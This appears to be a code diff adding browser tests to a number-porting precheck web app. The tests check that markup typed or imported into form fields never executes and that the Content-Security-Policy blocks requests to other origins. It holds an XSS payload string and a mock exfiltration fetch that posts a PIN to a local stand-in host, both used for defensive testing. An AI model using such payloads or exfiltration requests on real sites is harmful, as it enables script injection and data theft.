@@ -340,6 +340,68 @@ test('typed, imported and bundled markup is shown as text, never run', async () 
   await close(s);
 });
 
+test('markup in every field of the form and of an imported bundle never runs', async () => {
+  const payload = '"><img src=x onerror="window.injected++"><script>window.injected++</script>\u202e';
+  const s = await open();
+  const { page } = s;
+  await page.evaluate(() => { window.injected = 0; });
+  await card(page).locator('details').evaluateAll((all) => all.forEach((d) => { d.open = true; }));
+  const fields = card(page).locator('input[type=text], input[type=email], input[type=tel], input[type=password], textarea');
+  const count = await fields.count();
+  assert.ok(count >= 20, `only ${count} text fields`);
+  for (let k = 0; k < count; k++) await fields.nth(k).fill(payload);
+  await page.getByRole('button', { name: 'Show every problem beside its field' }).click();
+  await page.locator('.pc-finding', { hasText: '<img src=x' }).first().waitFor();
+  const el = 'port-precheck';
+  assert.equal(await page.locator(`${el} img, ${el} script:not([src])`).count(), 0);
+
+  if (existsSync(portcheck)) {
+    // A bundle whose every string is hostile, made by the CLI, imported by the page.
+    const draft = JSON.parse(readFileSync(join(root, 'tests', 'golden', 'clean-business-port.draft.json'), 'utf8'));
+    const request = draft.requests[0];
+    for (const key of ['customer_name', 'losing_carrier', 'account_number']) request[key] = payload;
+    for (const key of Object.keys(request.service_address)) request.service_address[key] = payload;
+    request.phone_numbers.push(payload);
+    delete request.bill.file;
+    const draftFile = join(work, 'hostile-draft.json');
+    writeFileSync(draftFile, JSON.stringify(draft));
+    const made = spawnSync(portcheck, ['bundle', draftFile], { encoding: 'utf8' });
+    assert.equal(made.status, 0, made.stderr);
+    const bundleFile = join(work, 'hostile.bundle.json');
+    writeFileSync(bundleFile, made.stdout);
+    await page.locator('#import-file').setInputFiles(bundleFile);
+    await page.getByText(/verified and loaded/).waitFor();
+    await page.locator('.pc-chip-error', { hasText: '<img' }).waitFor();
+    await page.emulateMedia({ media: 'print' });
+    assert.match(await page.locator('.pc-loa').first().textContent(), /<img src=x/);
+  }
+  assert.equal(await page.locator(`${el} img, ${el} script:not([src])`).count(), 0);
+  assert.equal(await page.evaluate(() => window.injected), 0);
+  await close(s);
+});
+
+test('the Content-Security-Policy itself refuses any request to another origin', async () => {
+  const s = await open();
+  const { page } = s;
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    const tries = await Promise.allSettled([
+      fetch('http://127.0.0.2:9/collect', { method: 'POST', body: 'pin=1234' }),
+      new Promise((resolve, reject) => { const img = new Image(); img.onload = resolve; img.onerror = reject; img.src = 'http://127.0.0.2:9/pixel.gif'; document.body.append(img); }),
+    ]);
+    await new Promise((r) => setTimeout(r, 200));
+    return { statuses: tries.map((t) => t.status), violations };
+  });
+  assert.deepEqual(outcome.statuses, ['rejected', 'rejected']);
+  assert.ok(outcome.violations.includes('connect-src') && outcome.violations.includes('img-src'), JSON.stringify(outcome.violations));
+  // Chromium reports the refused attempts as (failed) requests and console errors: by design here.
+  s.problems.length = 0;
+  s.requests = s.requests.filter((u) => !u.startsWith('http://127.0.0.2:9/'));
+  s.afterLoad = s.afterLoad.filter((u) => !u.startsWith('http://127.0.0.2:9/'));
+  await close(s);
+});
+
 test('the embed page: one script tag, themed through custom properties, autosave off', async () => {
   const s = await open('/embed.html');
   const { page } = s;
